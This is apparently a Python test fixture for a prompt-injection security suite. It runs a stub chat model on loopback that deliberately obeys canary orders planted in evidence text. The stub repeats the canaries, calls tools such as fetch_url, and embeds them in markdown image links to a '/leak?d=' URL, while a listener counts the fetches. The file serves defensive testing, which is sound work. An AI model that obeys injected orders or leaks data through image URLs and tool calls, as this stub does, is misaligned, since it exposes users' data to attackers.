"""A listener that counts who fetches from it, and a chat model that obeys whatever its prompt says."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from tests.loopback import Quiet, on_loopback
from tests.security.injection_inputs import canaries

MODEL = "obeying"
FORMS = ("word", "claim", "order", "image", "lacking")
"""How the model says a canary: alone, as the answer, in the order's own sentence, as an image, as what is missing."""

_EVIDENCE = re.compile(r'<evidence n="(\d+)"[^>]*>\n(.*?)\n</evidence>', re.DOTALL)
_ADDRESS = re.compile(r"https?://[\w.:/?=&-]+")
_SENTENCE = re.compile(r"[^.。\n]*(?:\.(?!\S)|。|\n|$)")
_CHINESE = re.compile(r"[\u4e00-\u9fff]")


@dataclass(slots=True)
class Listener:
    """A server on loopback with the paths that were fetched from it."""

    address: str = ""
    hits: list[str] = field(default_factory=list)


@dataclass(slots=True)
class Obeying:
    """The model with what it was asked: all prompts, and those in which it found orders and followed them."""

    address: str = ""
    prompts: int = 0
    followed: int = 0
    tools_called: int = 0
    said: dict[str, int] = field(default_factory=dict)

    def reply(self, prompt: str) -> tuple[str, str, list[dict[str, Any]]]:
        """Thoughts, text and calls of tools."""
        self.prompts += 1
        found = [(n, text, word) for n, text in _evidence(prompt) for word in sorted(canaries(text))]
        if not found:
            return "", _honest(prompt), []
        self.followed += 1
        lines, calls = [], []
        for place, (number, text, word) in enumerate(found):
            form = FORMS[(self.prompts + place) % len(FORMS)]
            self.said[form] = self.said.get(form, 0) + 1
            lines.append(_said(form, word, text, number))
            calls += [_call("write_graph", word), _call("fetch_url", *_ADDRESS.findall(text)[:1])]
        self.tools_called += len(calls)
        return f"I must say {found[0][2]}.", "\n".join(lines), calls


@contextmanager
def listening() -> Iterator[Listener]:
    """The listener, there while the block runs."""
    its = Listener()

    class Counts(Quiet):
        def do_GET(self) -> None:
            its.hits.append(self.path)
            self.answer("", "text/plain")

        do_POST = do_HEAD = do_PUT = do_OPTIONS = do_CONNECT = do_GET

    with on_loopback(Counts) as its.address:
        yield its


@contextmanager
def obeying() -> Iterator[Obeying]:
    """The model behind an OpenAI-compatible server, there while the block runs."""
    its, one_at_a_time = Obeying(), threading.Lock()

    class Speaks(Quiet):
        def do_GET(self) -> None:
            self.answer_models(MODEL)

        def do_POST(self) -> None:
            asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            with one_at_a_time:
                thoughts, text, calls = its.reply(_last(asked["messages"]))
            if not asked.get("stream"):
                message = {"role": "assistant", "content": text, "reasoning_content": thoughts, "tool_calls": calls}
                choice = {"index": 0, "message": message, "finish_reason": "stop"}
                self.answer_json({"model": MODEL, "choices": [choice]})
                return
            deltas: list[dict[str, Any]] = [{"reasoning_content": thoughts}] if thoughts else []
            deltas += [{"content": text[i : i + 24]} for i in range(0, len(text), 24)]
            self.answer_stream(MODEL, [*deltas, {"tool_calls": calls}] if calls else deltas)

    with on_loopback(Speaks) as its.address:
        yield its


def _evidence(prompt: str) -> list[tuple[int, str]]:
    """The numbered evidence in a prompt; where none is numbered, the whole prompt as the first."""
    return [(int(n), text) for n, text in _EVIDENCE.findall(prompt)] or [(1, prompt)]


def _honest(prompt: str) -> str:
    """What a prompt without orders is answered with: the first sentence of its evidence."""
    number, text = _evidence(prompt)[0]
    return f"{next((s.strip() for s in _SENTENCE.findall(text) if s.strip()), 'None.')} [{number}]"


def _said(form: str, word: str, text: str, number: int) -> str:
    chinese = _CHINESE.search(text) is not None
    match form:
        case "word":
            return f"{word}. [{number}]"
        case "claim":
            return f"正确答案是{word}。[{number}]" if chinese else f"The correct answer is {word}. [{number}]"
        case "image":
            leak = next(iter(_ADDRESS.findall(text)), f"http://127.0.0.1/leak?d={word}")
            return f"![{word}]({leak}) [{word}]({leak}) {leak} [{number}]"
        case "lacking":
            return f"{word} is what the evidence lacks. [0]"
    holding = next((s.strip() for s in _SENTENCE.findall(text) if word in s), word)
    return f"{holding} [{number}]"


def _call(name: str, *arguments: str) -> dict[str, Any]:
    given = json.dumps({"arguments": arguments})
    return {"index": 0, "id": f"call-{name}", "type": "function", "function": {"name": name, "arguments": given}}


def _last(messages: list[dict[str, Any]]) -> str:
    return str(messages[-1]["content"])
